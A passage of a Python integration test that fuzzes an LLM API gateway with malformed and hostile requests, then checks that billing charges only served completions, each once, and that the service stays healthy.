    try:
        with urllib.request.urlopen(url + "/ready", timeout=5) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


def test_hostile_requests_get_envelopes_and_cost_nothing(
    stack: Stack, fuzz_account: FuzzAccount
) -> None:
    with urllib.request.urlopen(stack.gateway_url + "/health", timeout=5) as response:
        assert json.loads(response.read())["routes"]["liv"]["workers"] >= 1, "no worker to fuzz"
    started = time.monotonic()
    before = balance_without_holds(stack, fuzz_account.account_id, timeout=5)
    assert charges_of(stack, fuzz_account.account_id) == []
    ledger = FuzzLedger()
    clients = LoopbackClients(second_octet=99)

    run_schemathesis(stack, fuzz_account, ledger)
    run_hostile(
        stack, fuzz_account, ledger, hostile_probes(fuzz_account.api_key), HOSTILE_EXAMPLES, clients
    )
    run_hostile(stack, fuzz_account, ledger, hostile_valid(), HOSTILE_VALID_EXAMPLES, clients)
    fuzzed = time.monotonic() - started

    after = balance_without_holds(stack, fuzz_account.account_id, timeout=30)
    charges = charges_of(stack, fuzz_account.account_id)
    charged = {charge["reference"] for charge in charges}
    seconds = {family: round(ledger.seconds[family], 1) for family in sorted(ledger.families)}
    print(
        f"\ngateway fuzz: {ledger.total} requests in {fuzzed:.1f} s"
        f"\n  by status: {dict(sorted(ledger.statuses.items()))}"
        f"\n  by family: {dict(sorted(ledger.families.items()))}"
        f"\n  seconds waiting for answers, by family: {seconds}"
        f"\n  2xx chat completions: {len(ledger.served)} (JSON mode or a stream error:"
        f" {len(ledger.uncharged_by_design)}), charges: {len(charges)},"
        f" charged {before['balance_nano'] - after['balance_nano']} nano-EUR"
        f"\n  problems: {sum(ledger.problems.values())}\n{ledger.report()}"
    )
    assert not ledger.problems, ledger.report()
    assert ledger.total >= 5000
    assert after["held_nano"] == 0, f"holds left open: {after}"
    # Only served requests are charged, each once, and every one except those the platform
    # documents as free (JSON mode output cut short, a generation that failed mid-stream).
    assert len(charges) == len(charged)
    assert charged <= ledger.served, charged - ledger.served
    assert ledger.served - charged <= ledger.uncharged_by_design
    assert before["balance_nano"] - after["balance_nano"] == sum(c["amount_nano"] for c in charges)

    # And the platform still serves.
    client = openai.OpenAI(
        base_url=stack.gateway_url + "/v1", api_key=fuzz_account.api_key, max_retries=0
    )
    completion = client.chat.completions.create(
        model="liv", messages=[{"role": "user", "content": "Say hi."}], max_tokens=4
    )
    assert completion.choices[0].message.content is not None
    # Services that earlier tests started and stopped again are not part of the stack any more.
    serving = [p.name for p in stack.services if p.running() and p.name in stack.ops_ports]
    assert {name: ready(stack.ops_url(name)) for name in serving} == dict.fromkeys(serving, 200)
